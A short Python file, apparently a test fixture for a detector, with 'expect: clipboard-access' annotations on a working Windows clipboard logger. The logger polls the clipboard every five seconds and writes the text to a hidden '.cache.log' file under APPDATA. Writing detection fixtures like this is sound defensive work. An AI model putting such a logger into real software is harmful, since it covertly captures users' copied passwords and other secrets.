# ruff: noqa
# fmt: off
"""win32clipboard polled in a loop and appended to a hidden log."""
import os
import time

import win32clipboard

log = os.path.join(os.environ["APPDATA"], ".cache.log")
while True:
    win32clipboard.OpenClipboard()  # expect: clipboard-access
    text = win32clipboard.GetClipboardData(win32clipboard.CF_UNICODETEXT)  # expect: clipboard-access
    win32clipboard.CloseClipboard()  # expect: clipboard-access
    with open(log, "a") as fh:
        fh.write(text + "\n")
    time.sleep(5)
